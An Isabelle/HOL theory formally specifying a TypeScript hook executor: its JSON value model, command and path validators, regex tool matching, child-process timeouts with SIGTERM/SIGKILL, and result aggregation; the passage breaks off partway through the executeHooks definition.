theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Sublist"
begin

section \<open>JavaScript values\<close>

text \<open>
  The hook subsystem is TypeScript; at run time its values are JavaScript values. The ones
  that reach the code under study are exactly the values a JSON text can denote (hook
  configuration and the standard output of a hook are JSON), plus \<open>undefined\<close>.
  A value is a \<open>json\<close>; a value that may be \<open>undefined\<close> is a \<open>json option\<close> with
  \<open>None\<close> for \<open>undefined\<close>. Numbers are exact rationals (a JSON text denotes no NaN and
  no infinity; rounding to a double is outside the model). Strings are lists of 8-bit
  characters. An object is the list of its properties in source order; a later binding of
  a key shadows an earlier one, as in \<open>JSON.parse\<close>. Strings and lists have no bound on
  their length: the limits of the engine's memory are outside the model.
\<close>

datatype json =
    JNull
  | JBool bool
  | JNum rat
  | JStr string
  | JArr "json list"
  | JObj "(string \<times> json) list"

text \<open>A thrown exception, with its message.\<close>

datatype js_error =
    Error string
  | SyntaxError string
  | TypeError string

text \<open>Truthiness: what \<open>if (v)\<close>, \<open>!v\<close>, \<open>a || b\<close> and \<open>a && b\<close> test.\<close>

fun truthy :: "json \<Rightarrow> bool" where
  "truthy JNull = False"
| "truthy (JBool b) = b"
| "truthy (JNum r) = (r \<noteq> 0)"
| "truthy (JStr s) = (s \<noteq> [])"
| "truthy (JArr xs) = True"
| "truthy (JObj kvs) = True"

fun truthy_opt :: "json option \<Rightarrow> bool" where
  "truthy_opt None = False"
| "truthy_opt (Some v) = truthy v"

fun typeof :: "json option \<Rightarrow> string" where
  "typeof None = ''undefined''"
| "typeof (Some JNull) = ''object''"
| "typeof (Some (JBool b)) = ''boolean''"
| "typeof (Some (JNum r)) = ''number''"
| "typeof (Some (JStr s)) = ''string''"
| "typeof (Some (JArr xs)) = ''object''"
| "typeof (Some (JObj kvs)) = ''object''"

text \<open>
  Reading a property \<open>v.k\<close> of a value that is neither \<open>null\<close> nor \<open>undefined\<close>, for the
  keys the code reads (\<open>command\<close>, \<open>timeout\<close>, \<open>decision\<close>, \<open>reason\<close>, \<open>continue\<close>,
  \<open>stopReason\<close>, \<open>context\<close>, \<open>suppressOutput\<close>): an object yields its last binding of
  the key, and a primitive or an array has no such property.
\<close>

fun get_prop :: "json \<Rightarrow> string \<Rightarrow> json option" where
  "get_prop (JObj kvs) k = map_of (rev kvs) k"
| "get_prop v k = None"

text \<open>
  \<open>String.prototype.trim\<close> over the 8-bit alphabet: tab, line feed, vertical tab, form
  feed, carriage return, space and no-break space are stripped from both ends.
\<close>

definition is_js_space :: "char \<Rightarrow> bool" where
  "is_js_space c = (c \<in> set [CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D, CHR 0x20, CHR 0xA0])"

definition trim :: "string \<Rightarrow> string" where
  "trim s = rev (dropWhile is_js_space (rev (dropWhile is_js_space s)))"

text \<open>\<open>s.includes(sub)\<close>: \<open>sub\<close> occurs in \<open>s\<close> as a contiguous run.\<close>

fun includes_str :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "includes_str [] sub = (sub = [])"
| "includes_str (c # cs) sub = (prefix sub (c # cs) \<or> includes_str cs sub)"

section \<open>Hook configuration (hook-types)\<close>

text \<open>
  \<open>HookCommand\<close>: \<open>{type: 'command', command: string, timeout?: number}\<close>; the timeout is
  in seconds. \<open>HookMatcher\<close>: \<open>{matcher?: string, hooks: HookCommand[]}\<close>.
\<close>

record HookCommand =
  command :: string
  timeout :: "rat option"

record HookMatcher =
  matcher :: "string option"
  hooks :: "HookCommand list"

datatype HookEventName =
    UserPromptSubmit
  | PreToolUse
  | PostToolUse
  | Stop
  | SubagentStop
  | Notification
  | PreCompact

type_synonym HookConfig = "HookEventName \<Rightarrow> HookMatcher list option"

text \<open>The object a well-typed \<open>HookCommand\<close> is at run time.\<close>

definition HookCommand_object :: "HookCommand \<Rightarrow> json" where
  "HookCommand_object c =
     JObj ([(''type'', JStr ''command''), (''command'', JStr (command c))] @
           (case timeout c of None \<Rightarrow> [] | Some t \<Rightarrow> [(''timeout'', JNum t)]))"

section \<open>The validator (hook-utils)\<close>

text \<open>
  \<open>validateHookSecurity(command)\<close>. Its parameter is typed \<open>HookCommand\<close>, but it checks
  the run-time type of the fields, and its callers hand it unvalidated objects, so the
  argument is any value that is not \<open>null\<close> or \<open>undefined\<close>:
  \<^verbatim>\<open>
  if (!command.command || typeof command.command !== 'string')
    throw new Error('Hook must have a valid command string');
  if (command.timeout !== undefined)
    if (typeof command.timeout !== 'number' || command.timeout < 0)
      throw new Error('Hook timeout must be a positive number');
  \<close>
  The function reads two properties and compares; it calls nothing else.
\<close>

definition validateHookSecurity :: "json \<Rightarrow> js_error + unit" where
  "validateHookSecurity cmd =
     (if \<not> truthy_opt (get_prop cmd ''command'') \<or> typeof (get_prop cmd ''command'') \<noteq> ''string''
      then Inl (Error ''Hook must have a valid command string'')
      else if get_prop cmd ''timeout'' \<noteq> None \<and>
              (typeof (get_prop cmd ''timeout'') \<noteq> ''number'' \<or>
               (case get_prop cmd ''timeout'' of Some (JNum r) \<Rightarrow> r < 0 | _ \<Rightarrow> False))
      then Inl (Error ''Hook timeout must be a positive number'')
      else Inr ())"

subsection \<open>Paths\<close>

text \<open>
  \<open>validatePath\<close> calls \<open>normalize\<close>, \<open>isAbsolute\<close> and \<open>resolve\<close> of Node's \<open>path\<close>
  module, which is the platform's and not the repository's. They are modelled here in
  their POSIX form, at the level of path segments: \<open>normalize\<close> (here \<open>normalize_path\<close>) splits at \<open>/\<close>, drops
  empty and \<open>.\<close> segments, lets a \<open>..\<close> segment cancel the segment before it (unless that
  is itself a kept \<open>..\<close>), keeps a leading \<open>..\<close> of a relative path and drops it under
  the root, and keeps a leading and a trailing slash.
\<close>

fun split_slash :: "string \<Rightarrow> string list" where
  "split_slash [] = [[]]"
| "split_slash (c # cs) =
     (if c = CHR ''/'' then [] # split_slash cs
      else (case split_slash cs of [] \<Rightarrow> [[c]] | s # ss \<Rightarrow> (c # s) # ss))"

fun join_slash :: "string list \<Rightarrow> string" where
  "join_slash [] = []"
| "join_slash [s] = s"
| "join_slash (s # t # ss) = s @ ''/'' @ join_slash (t # ss)"

text \<open>One segment against the segments kept so far (the last kept segment first).\<close>

definition normalize_step :: "bool \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> string list" where
  "normalize_step allowAboveRoot kept seg =
     (if seg = [] \<or> seg = ''.'' then kept
      else if seg = ''..'' then
        (case kept of
           [] \<Rightarrow> if allowAboveRoot then [''..''] else []
         | seg' # earlier \<Rightarrow>
             if seg' = ''..'' then (if allowAboveRoot then ''..'' # kept else kept) else earlier)
      else seg # kept)"

definition normalizeString :: "string \<Rightarrow> bool \<Rightarrow> string" where
  "normalizeString path allowAboveRoot =
     join_slash (rev (foldl (normalize_step allowAboveRoot) [] (split_slash path)))"

definition isAbsolute :: "string \<Rightarrow> bool" where
  "isAbsolute path = (path \<noteq> [] \<and> hd path = CHR ''/'')"

definition normalize_path :: "string \<Rightarrow> string" where
  "normalize_path path =
     (if path = [] then ''.''
      else
        let trailingSeparator = (last path = CHR ''/'');
            p = normalizeString path (\<not> isAbsolute path)
        in if p = [] then
             (if isAbsolute path then ''/'' else if trailingSeparator then ''./'' else ''.'')
           else (if isAbsolute path then ''/'' else []) @ p @
                (if trailingSeparator then ''/'' else []))"

text \<open>\<open>resolve(cwd, path)\<close> for an absolute \<open>cwd\<close> and a relative \<open>path\<close>.\<close>

definition resolve :: "string \<Rightarrow> string \<Rightarrow> string" where
  "resolve cwd path = ''/'' @ normalizeString (cwd @ ''/'' @ path) False"

text \<open>
  \<open>validatePath(path)\<close>; \<open>cwd\<close> is what \<open>process.cwd()\<close> returns:
  \<^verbatim>\<open>
  if (typeof path !== 'string') throw new Error('Path must be a string');
  const normalizedPath = normalize(path);
  if (normalizedPath.includes('../')) throw new Error('Path traversal is not allowed');
  const absolutePath = isAbsolute(path) ? path : resolve(process.cwd(), path);
  \<close>
  The function returns nothing: \<open>absolutePath\<close> is computed and dropped.
\<close>

definition validatePath :: "string \<Rightarrow> json option \<Rightarrow> js_error + unit" where
  "validatePath cwd v =
     (case v of
        Some (JStr path) \<Rightarrow>
          (let normalizedPath = normalize_path path in
           if includes_str normalizedPath ''../'' then Inl (Error ''Path traversal is not allowed'')
           else
             let absolutePath = (if isAbsolute path then path else resolve cwd path)
             in Inr ())
      | _ \<Rightarrow> Inl (Error ''Path must be a string''))"

section \<open>The platform\<close>

text \<open>
  What the executor takes from Node and not from the repository: the regular-expression
  engine (\<open>new RegExp(p)\<close> throws a \<open>SyntaxError\<close> for a pattern that does not compile,
  \<open>regex.test(s)\<close> answers for a compiled one) and \<open>JSON.parse\<close> (which throws a
  \<open>SyntaxError\<close> for a text that is not one JSON value). The executor's functions take
  them as a parameter, so what is proved of them holds for every engine and every parser.
\<close>

record 'rx Platform =
  RegExp_new :: "string \<Rightarrow> js_error + 'rx"
  RegExp_test :: "'rx \<Rightarrow> string \<Rightarrow> bool"
  JSON_parse :: "string \<Rightarrow> js_error + json"

text \<open>
  \<open>try { body } catch { handler }\<close>: the handler runs exactly when the body throws.
  \<open>and_then\<close> sequences two steps of a body, the second skipped when the first throws.
\<close>

definition try_catch :: "js_error + 'a \<Rightarrow> (js_error \<Rightarrow> js_error + 'a) \<Rightarrow> js_error + 'a" where
  "try_catch body handler = (case body of Inl e \<Rightarrow> handler e | Inr v \<Rightarrow> Inr v)"

definition and_then :: "js_error + 'a \<Rightarrow> ('a \<Rightarrow> js_error + 'b) \<Rightarrow> js_error + 'b" where
  "and_then m f = (case m of Inl e \<Rightarrow> Inl e | Inr v \<Rightarrow> f v)"

section \<open>The matcher (HookExecutor.matchesPattern)\<close>

text \<open>
  \<^verbatim>\<open>
  if (!hookMatcher.matcher) return true;
  if (!toolName) return false;
  try { const regex = new RegExp(hookMatcher.matcher); return regex.test(toolName); }
  catch { return hookMatcher.matcher === toolName; }
  \<close>
  \<open>!s\<close> holds of an absent string and of the empty string.
\<close>

definition falsy_str :: "string option \<Rightarrow> bool" where
  "falsy_str s = (case s of None \<Rightarrow> True | Some t \<Rightarrow> t = [])"

definition matchesPattern :: "'rx Platform \<Rightarrow> HookMatcher \<Rightarrow> string option \<Rightarrow> js_error + bool" where
  "matchesPattern P hookMatcher toolName =
     (if falsy_str (matcher hookMatcher) then Inr True
      else if falsy_str toolName then Inr False
      else try_catch
             (and_then (RegExp_new P (the (matcher hookMatcher)))
                (\<lambda>regex. Inr (RegExp_test P regex (the toolName))))
             (\<lambda>e. Inr (the (matcher hookMatcher) = the toolName)))"

section \<open>Results (hook-types)\<close>

text \<open>
  \<open>HookResult\<close> and \<open>HookExecutionResult\<close>. \<open>jsonOutput\<close> is whatever \<open>JSON.parse\<close>
  returned: the code casts it to \<open>HookJsonOutput\<close> and checks no shape. \<open>blockReason\<close>,
  \<open>stopReason\<close> and the entries of \<open>contextToAdd\<close> are typed as strings but are assigned
  properties of \<open>jsonOutput\<close> unchecked, so they are values.
\<close>

record HookResult =
  success :: bool
  exitCode :: int
  stdout :: string
  stderr :: string
  timedOut :: bool
  error :: "string option"
  jsonOutput :: "json option"

record HookExecutionResult =
  results :: "HookResult list"
  shouldBlock :: bool
  blockReason :: "json option"
  shouldContinue :: bool
  stopReason :: "json option"
  contextToAdd :: "json list"

record HookEventData =
  session_id :: string
  transcript_path :: string
  cwd :: string
  hook_event_name :: HookEventName
  event_fields :: "(string \<times> json) list"

section \<open>The process runner (HookExecutor.executeCommand)\<close>

subsection \<open>The timeout\<close>

text \<open>
  \<^verbatim>\<open>
  private static readonly DEFAULT_TIMEOUT = 60; // seconds
  const timeoutSeconds = command.timeout || HookExecutor.DEFAULT_TIMEOUT;
  const timeoutMs = timeoutSeconds * 1000;
  \<close>
  \<open>a || b\<close> is \<open>b\<close> when \<open>a\<close> is \<open>undefined\<close> and also when \<open>a\<close> is \<open>0\<close>.
\<close>

definition DEFAULT_TIMEOUT :: rat where
  "DEFAULT_TIMEOUT = 60"

definition timeoutSeconds :: "HookCommand \<Rightarrow> rat" where
  "timeoutSeconds c =
     (case timeout c of
        None \<Rightarrow> DEFAULT_TIMEOUT
      | Some t \<Rightarrow> if truthy (JNum t) then t else DEFAULT_TIMEOUT)"

definition timeoutMs :: "HookCommand \<Rightarrow> rat" where
  "timeoutMs c = timeoutSeconds c * 1000"

text \<open>
  Node's \<open>setTimeout(f, ms)\<close> runs \<open>f\<close> no earlier than \<open>ms\<close> milliseconds later, with
  \<open>ms\<close> truncated to an integer, and taken as 1 when it is below 1 or above \<open>2^31 - 1\<close>.

  The product \<open>timeoutSeconds * 1000\<close> is exact here and is rounded to a double in the
  code. The two agree on the delay of the timer for every whole number of seconds; for a
  fraction they can differ by the rounding (the double product of 1.005 and 1000 is just
  below 1005 and is truncated to 1004), so what is proved of the delay below is stated for
  whole numbers.
\<close>

definition setTimeout_delay :: "rat \<Rightarrow> nat" where
  "setTimeout_delay ms = (if 1 \<le> ms \<and> ms \<le> 2147483647 then nat \<lfloor>ms\<rfloor> else 1)"

subsection \<open>The close handler\<close>

text \<open>
  \<^verbatim>\<open>
  child.on('close', (exitCode) => {
    clearTimeout(timeoutId);
    let jsonOutput: HookJsonOutput | undefined;
    try { if (stdout.trim()) { jsonOutput = JSON.parse(stdout.trim()); } }
    catch { /* Not JSON output, treat as regular stdout */ }
    const result: HookResult = { success: exitCode === 0, exitCode: exitCode ?? -1,
      stdout: stdout.trim(), stderr: stderr.trim(), timedOut, error, jsonOutput };
    resolve(result);
  });
  \<close>
  \<open>parse_stdout\<close> is the \<open>try\<close> statement: its value is what \<open>jsonOutput\<close> holds after it.
  \<open>package_result\<close> is the handler from there on, given the variables of the closure.
\<close>

definition parse_stdout :: "'rx Platform \<Rightarrow> string \<Rightarrow> js_error + json option" where
  "parse_stdout P out =
     try_catch
       (if trim out \<noteq> [] then and_then (JSON_parse P (trim out)) (\<lambda>v. Inr (Some v))
        else Inr None)
       (\<lambda>e. Inr None)"

definition package_result ::
  "'rx Platform \<Rightarrow> int option \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string option \<Rightarrow> js_error + HookResult" where
  "package_result P code out err timed_out failure =
     and_then (parse_stdout P out)
       (\<lambda>j. Inr \<lparr> success = (code = Some 0),
                  exitCode = (case code of None \<Rightarrow> - 1 | Some n \<Rightarrow> n),
                  stdout = trim out,
                  stderr = trim err,
                  timedOut = timed_out,
                  error = failure,
                  jsonOutput = j \<rparr>)"

subsection \<open>The child process and the timers\<close>

text \<open>
  One run of \<open>executeCommand\<close> is an event loop over what the child does. Its events
  are the chunks it writes (\<open>data\<close> on \<open>child.stdout\<close> and \<open>child.stderr\<close>), an
  \<open>error\<close> event of the child, an \<open>error\<close> event of one of its streams (of
  \<open>child.stdin\<close> with \<open>EPIPE\<close>, when the child has closed its standard input before the
  event data was written through; of \<open>child.stdout\<close> or \<open>child.stderr\<close>), the end of
  the process (\<open>exit\<close>), and the \<open>close\<close> of the child with the exit code (\<open>null\<close>
  when a signal ended it), which comes once the process has ended and its streams are
  closed. Each event carries its time in milliseconds since the spawn. A
  child that never closes has a trace without \<open>Close\<close>, and a trace ends at its
  \<open>Close\<close>.

  The state is the closure of \<open>executeCommand\<close>: its variables \<open>timedOut\<close>, \<open>stdout\<close>,
  \<open>stderr\<close> and \<open>error\<close>; the two timers, each by the time at which it is due (the inner,
  anonymous timer of the timeout callback is \<open>graceTimer\<close>); the child, by its \<open>killed\<close>
  flag, whether its process has ended, whether it has closed, the signals delivered to
  it, and what was written to its standard input; and the promise, by the \<open>HookResult\<close>
  it was resolved with or the exception it was rejected with. \<open>uncaught\<close> is an
  exception that no handler took: it reaches the event loop, and Node ends the process
  on it.
\<close>

datatype signal = SIGTERM | SIGKILL

datatype child_event =
    Stdout_data string
  | Stderr_data string
  | Error_event string
  | Stream_error string
  | Exit_event
  | Close "int option"

record Runner =
  var_timedOut :: bool
  var_stdout :: string
  var_stderr :: string
  var_error :: "string option"
  timeoutId :: "nat option"
  graceTimer :: "nat option"
  child_killed :: bool
  child_exited :: bool
  child_closed :: bool
  child_signals :: "(nat \<times> signal) list"
  child_stdin :: "json option"
  resolved :: "HookResult option"
  rejected :: "js_error option"
  uncaught :: "js_error option"

text \<open>
  \<open>spawn(command.command, {shell: true, cwd: eventData.cwd, stdio: [...]})\<close> validates
  its arguments before it starts anything (Node 20): it throws a \<open>TypeError\<close> with code
  \<open>ERR_INVALID_ARG_VALUE\<close> for an empty command, and for a command or a working
  directory with a NUL character. The call is inside the executor of \<open>new Promise\<close>, so
  the exception rejects the promise: no timer is armed and nothing is written.
\<close>

definition spawn_check :: "string \<Rightarrow> string \<Rightarrow> js_error option" where
  "spawn_check file dir =
     (if file = [] \<or> CHR 0x00 \<in> set file \<or> CHR 0x00 \<in> set dir
      then Some (TypeError ''ERR_INVALID_ARG_VALUE'') else None)"

text \<open>
  \<^verbatim>\<open>
  child.stdin.write(JSON.stringify(eventData));
  child.stdin.end();
  \<close>
  The standard input of the child is given by the value whose JSON text is written to
  it; the stream is ended after that one write. \<open>HookEventData_object\<close> is the object a
  well-typed \<open>HookEventData\<close> is at run time.
\<close>

fun HookEventName_string :: "HookEventName \<Rightarrow> string" where
  "HookEventName_string UserPromptSubmit = ''UserPromptSubmit''"
| "HookEventName_string PreToolUse = ''PreToolUse''"
| "HookEventName_string PostToolUse = ''PostToolUse''"
| "HookEventName_string Stop = ''Stop''"
| "HookEventName_string SubagentStop = ''SubagentStop''"
| "HookEventName_string Notification = ''Notification''"
| "HookEventName_string PreCompact = ''PreCompact''"

definition HookEventData_object :: "HookEventData \<Rightarrow> json" where
  "HookEventData_object d =
     JObj ([(''session_id'', JStr (session_id d)),
            (''transcript_path'', JStr (transcript_path d)),
            (''cwd'', JStr (cwd d)),
            (''hook_event_name'', JStr (HookEventName_string (hook_event_name d)))] @
           event_fields d)"

text \<open>
  The state in which the executor of \<open>new Promise\<close> leaves the run: after a \<open>spawn\<close>
  that threw, and after a \<open>spawn\<close> that returned a child, with the timeout timer armed,
  the event data written and the handlers registered.
\<close>

definition spawn_threw :: "js_error \<Rightarrow> Runner" where
  "spawn_threw e =
     \<lparr> var_timedOut = False, var_stdout = [], var_stderr = [], var_error = None,
       timeoutId = None, graceTimer = None,
       child_killed = False, child_exited = False, child_closed = False, child_signals = [],
       child_stdin = None, resolved = None, rejected = Some e, uncaught = None \<rparr>"

definition spawned :: "HookCommand \<Rightarrow> HookEventData \<Rightarrow> Runner" where
  "spawned c eventData =
     \<lparr> var_timedOut = False, var_stdout = [], var_stderr = [], var_error = None,
       timeoutId = Some (setTimeout_delay (timeoutMs c)), graceTimer = None,
       child_killed = False, child_exited = False, child_closed = False, child_signals = [],
       child_stdin = Some (HookEventData_object eventData),
       resolved = None, rejected = None, uncaught = None \<rparr>"

definition promise_executor :: "HookCommand \<Rightarrow> HookEventData \<Rightarrow> Runner" where
  "promise_executor c eventData =
     (case spawn_check (command c) (cwd eventData) of
        Some e \<Rightarrow> spawn_threw e
      | None \<Rightarrow> spawned c eventData)"

text \<open>
  \<open>child.kill(signal)\<close>. While the process has not ended, the signal is delivered and
  \<open>killed\<close> is set: Node documents \<open>subprocess.killed\<close> as set once \<open>subprocess.kill()\<close>
  has successfully sent a signal, and as saying nothing on whether the process has
  ended. Once the process has ended, also when its \<open>close\<close> is still to come, \<open>kill\<close>
  sends nothing, returns false and leaves \<open>killed\<close> as it is. \<open>child_signals\<close> lists
  the signals delivered. A signal that the operating system refuses to deliver to a
  running process, as it does for a child that has changed its user, is outside the model.
\<close>

definition child_kill :: "nat \<Rightarrow> signal \<Rightarrow> Runner \<Rightarrow> Runner" where
  "child_kill t sig st =
     (if child_exited st then st
      else st\<lparr> child_killed := True, child_signals := child_signals st @ [(t, sig)] \<rparr>)"

text \<open>
  \<^verbatim>\<open>
  const timeoutId = setTimeout(() => {
    timedOut = true;
    child.kill('SIGTERM');
    setTimeout(() => { if (!child.killed) { child.kill('SIGKILL'); } }, 5000);
  }, timeoutMs);
  \<close>
\<close>

definition on_timeout :: "nat \<Rightarrow> Runner \<Rightarrow> Runner" where
  "on_timeout t st =
     (child_kill t SIGTERM (st\<lparr> var_timedOut := True, timeoutId := None \<rparr>))
       \<lparr> graceTimer := Some (t + setTimeout_delay 5000) \<rparr>"

definition on_grace :: "nat \<Rightarrow> Runner \<Rightarrow> Runner" where
  "on_grace t st =
     (let st' = st\<lparr> graceTimer := None \<rparr>
      in if \<not> child_killed st' then child_kill t SIGKILL st' else st')"

text \<open>
  The timers that are due by time \<open>t\<close> run, each at its own due time, before the event of
  time \<open>t\<close> is handled; \<open>drain\<close> lets every timer still armed run.
\<close>

definition fire_due :: "nat \<Rightarrow> Runner \<Rightarrow> Runner" where
  "fire_due t st =
     (let st1 = (case timeoutId st of
                   Some d \<Rightarrow> if d \<le> t then on_timeout d st else st
                 | None \<Rightarrow> st)
      in (case graceTimer st1 of
            Some g \<Rightarrow> if g \<le> t then on_grace g st1 else st1
          | None \<Rightarrow> st1))"

definition drain :: "Runner \<Rightarrow> Runner" where
  "drain st =
     (let st1 = (case timeoutId st of Some d \<Rightarrow> on_timeout d st | None \<Rightarrow> st)
      in (case graceTimer st1 of Some g \<Rightarrow> on_grace g st1 | None \<Rightarrow> st1))"

text \<open>
  The \<open>close\<close> handler runs when the process has ended and its streams are closed. An
  exception that it throws has no handler.
\<close>

definition on_close :: "'rx Platform \<Rightarrow> int option \<Rightarrow> Runner \<Rightarrow> Runner" where
  "on_close P code st =
     (let st' = st\<lparr> timeoutId := None, child_exited := True, child_closed := True \<rparr>
      in (case package_result P code (var_stdout st') (var_stderr st') (var_timedOut st')
                 (var_error st') of
            Inl e \<Rightarrow> st'\<lparr> uncaught := Some e \<rparr>
          | Inr r \<Rightarrow> st'\<lparr> resolved := Some r \<rparr>))"

text \<open>
  The handlers of the events. The code registers none for the \<open>error\<close> event of
  \<open>child.stdin\<close>, \<open>child.stdout\<close> and \<open>child.stderr\<close>, and a stream that emits
  \<open>error\<close> with no listener throws the error: it is uncaught. The code does not listen
  to \<open>exit\<close>; the end of the process changes what \<open>child.kill\<close> does.
\<close>

fun on_event :: "'rx Platform \<Rightarrow> child_event \<Rightarrow> Runner \<Rightarrow> Runner" where
  "on_event P (Stdout_data d) st = st\<lparr> var_stdout := var_stdout st @ d \<rparr>"
| "on_event P (Stderr_data d) st = st\<lparr> var_stderr := var_stderr st @ d \<rparr>"
| "on_event P (Error_event e) st = st\<lparr> var_error := Some e \<rparr>"
| "on_event P (Stream_error e) st = st\<lparr> uncaught := Some (Error e) \<rparr>"
| "on_event P Exit_event st = st\<lparr> child_exited := True \<rparr>"
| "on_event P (Close code) st = on_close P code st"

fun is_Close :: "child_event \<Rightarrow> bool" where
  "is_Close (Close code) = True"
| "is_Close ev = False"

fun is_Stream_error :: "child_event \<Rightarrow> bool" where
  "is_Stream_error (Stream_error e) = True"
| "is_Stream_error ev = False"

fun is_Exit :: "child_event \<Rightarrow> bool" where
  "is_Exit Exit_event = True"
| "is_Exit ev = False"

text \<open>
  The loop handles the events in order, the timers that are due first. It ends at an
  uncaught exception, which ends the process with the promise unsettled, and at the
  \<open>close\<close> of the child, after which the timers still armed run.
\<close>

fun event_loop :: "'rx Platform \<Rightarrow> (nat \<times> child_event) list \<Rightarrow> Runner \<Rightarrow> Runner" where
  "event_loop P [] st = drain st"
| "event_loop P ((t, ev) # rest) st =
     (let st' = on_event P ev (fire_due t st)
      in if uncaught st' \<noteq> None then st'
         else if is_Close ev then drain st'
         else event_loop P rest st')"

text \<open>What a child wrote to its standard output and to its standard error.\<close>

fun stdout_written :: "(nat \<times> child_event) list \<Rightarrow> string" where
  "stdout_written [] = []"
| "stdout_written ((t, Stdout_data d) # rest) = d @ stdout_written rest"
| "stdout_written ((t, ev) # rest) = stdout_written rest"

fun stderr_written :: "(nat \<times> child_event) list \<Rightarrow> string" where
  "stderr_written [] = []"
| "stderr_written ((t, Stderr_data d) # rest) = d @ stderr_written rest"
| "stderr_written ((t, ev) # rest) = stderr_written rest"

text \<open>
  \<open>executeCommand(command, eventData)\<close> against a child with the given trace: the final
  state of the run. Its promise is rejected when \<open>spawn\<close> threw, is resolved with
  \<open>resolved\<close>, and is pending when both are \<open>None\<close>. The event data goes to the child
  (its working directory and its standard input) and nowhere else.
\<close>

definition executeCommand ::
  "'rx Platform \<Rightarrow> HookCommand \<Rightarrow> HookEventData \<Rightarrow> (nat \<times> child_event) list \<Rightarrow> Runner" where
  "executeCommand P c eventData trace =
     (let st = promise_executor c eventData
      in if rejected st \<noteq> None then st else event_loop P trace st)"

section \<open>The dispatcher and the aggregator (HookExecutor.executeHooks)\<close>

text \<open>
  The body of the \<open>for\<close> loop over the results:
  \<^verbatim>\<open>
  if (result.exitCode === 2 && result.stderr) { shouldBlock = true; blockReason = result.stderr; }
  if (result.jsonOutput) {
    const { decision, reason, continue: cont, stopReason: stop, context } = result.jsonOutput;
    if (decision === 'block') { shouldBlock = true; blockReason = reason; }
    if (cont === false) { shouldContinue = false; stopReason = stop; }
    if (context && result.exitCode === 0) { contextToAdd.push(context); }
  }
  if (result.exitCode === 0 && result.stdout && !result.jsonOutput?.suppressOutput) {
    contextToAdd.push(result.stdout);
  }
  \<close>
  The accumulator is the record that is returned, with \<open>results\<close> already in place.
\<close>

definition process_exit :: "HookResult \<Rightarrow> HookExecutionResult \<Rightarrow> HookExecutionResult" where
  "process_exit r acc =
     (if exitCode r = 2 \<and> stderr r \<noteq> []
      then acc\<lparr> shouldBlock := True, blockReason := Some (JStr (stderr r)) \<rparr>
      else acc)"

definition process_json :: "HookResult \<Rightarrow> HookExecutionResult \<Rightarrow> HookExecutionResult" where
  "process_json r acc =
     (case jsonOutput r of
        None \<Rightarrow> acc
      | Some j \<Rightarrow>
          if \<not> truthy j then acc
          else
            let decision = get_prop j ''decision'';
                reason = get_prop j ''reason'';
                cont = get_prop j ''continue'';
                stop = get_prop j ''stopReason'';
                ctx = get_prop j ''context'';
                acc1 = (if decision = Some (JStr ''block'')
                        then acc\<lparr> shouldBlock := True, blockReason := reason \<rparr> else acc);
                acc2 = (if cont = Some (JBool False)
                        then acc1\<lparr> shouldContinue := False, stopReason := stop \<rparr> else acc1)
            in (case ctx of
                  None \<Rightarrow> acc2
                | Some c \<Rightarrow>
                    if truthy c \<and> exitCode r = 0
                    then acc2\<lparr> contextToAdd := contextToAdd acc2 @ [c] \<rparr> else acc2))"

definition process_stdout :: "HookResult \<Rightarrow> HookExecutionResult \<Rightarrow> HookExecutionResult" where
  "process_stdout r acc =
     (if exitCode r = 0 \<and> stdout r \<noteq> [] \<and>
         \<not> truthy_opt (case jsonOutput r of None \<Rightarrow> None | Some j \<Rightarrow> get_prop j ''suppressOutput'')
      then acc\<lparr> contextToAdd := contextToAdd acc @ [JStr (stdout r)] \<rparr>
      else acc)"

definition process_result :: "HookExecutionResult \<Rightarrow> HookResult \<Rightarrow> HookExecutionResult" where
  "process_result acc r = process_stdout r (process_json r (process_exit r acc))"

definition aggregate :: "HookResult list \<Rightarrow> HookExecutionResult" where
  "aggregate rs =
     foldl process_result
       \<lparr> results = rs, shouldBlock = False, blockReason = None, shouldContinue = True,
         stopReason = None, contextToAdd = [] \<rparr> rs"

text \<open>
  An \<open>async\<close> function ends in one of four ways: its promise is resolved with a value,
  rejected with an exception, never settled, or still pending when an uncaught exception
  ends the process.
\<close>

datatype 'a promise = Resolved 'a | Rejected js_error | Pending | Crashed

text \<open>
  \<open>matchers.filter(...)\<close> with a predicate that may throw, and \<open>Promise.all\<close> over the
  promises of \<open>executeCommand\<close>, which resolve or stay pending.
\<close>

fun filter_throwing :: "('a \<Rightarrow> js_error + bool) \<Rightarrow> 'a list \<Rightarrow> js_error + 'a list" where
  "filter_throwing p [] = Inr []"
| "filter_throwing p (x # xs) =
     and_then (p x) (\<lambda>keep. and_then (filter_throwing p xs)
       (\<lambda>ys. Inr (if keep then x # ys else ys)))"

fun Promise_all :: "'a option list \<Rightarrow> 'a list option" where
  "Promise_all [] = Some []"
| "Promise_all (None # ps) = None"
| "Promise_all (Some v # ps) = map_option ((#) v) (Promise_all ps)"

text \<open>
  \<^verbatim>\<open>
  const matchers = hookConfig[eventName] || [];
  const promises = matchers
    .filter(hookMatcher => this.matchesPattern(hookMatcher, matcher))
    .flatMap(hookMatcher => hookMatcher.hooks.map(command =>
        this.executeCommand(command, eventData)));
  const hookResults = await Promise.all(promises);
  results.push(...hookResults);
  for (const result of results) { ... }
  return { results, shouldBlock, blockReason, shouldContinue, stopReason, contextToAdd };
  \<close>
  \<open>children i\<close> is the trace of the child that the \<open>i\<close>-th call of \<open>executeCommand\<close>
  spawns, in request order. Every call is made before the first \<open>await\<close>. A promise that
  is rejected is rejected as soon as it is made, so \<open>Promise.all\<close> is rejected with the
  first of them in request order, before any child does anything. Otherwise, a run that
  ends in an uncaught exception leaves its promise, and with it the one of
  \<open>Promise.all\<close>, pending when the process ends.
\<close>

definition first_rejected :: "Runner list \<Rightarrow> js_error option" where
  "first_rejected runs =
     (case filter (\<lambda>st. rejected st \<noteq> None) runs of [] \<Rightarrow> None | st # sts \<Rightarrow> rejected st)"

definition selected_commands ::
  "'rx Platform \<Rightarrow> HookConfig \<Rightarrow> HookEventName \<Rightarrow> string option \<Rightarrow> js_error + HookCommand list" where
  "selected_commands P hookConfig eventName toolName =
     (let matchers = (case hookConfig eventName of None \<Rightarrow> [] | Some ms \<Rightarrow> ms)
      in and_then (filter_throwing (\<lambda>hookMatcher. matchesPattern P hookMatcher toolName) matchers)
           (\<lambda>ms. Inr (concat (map hooks ms))))"

definition executeHooks ::
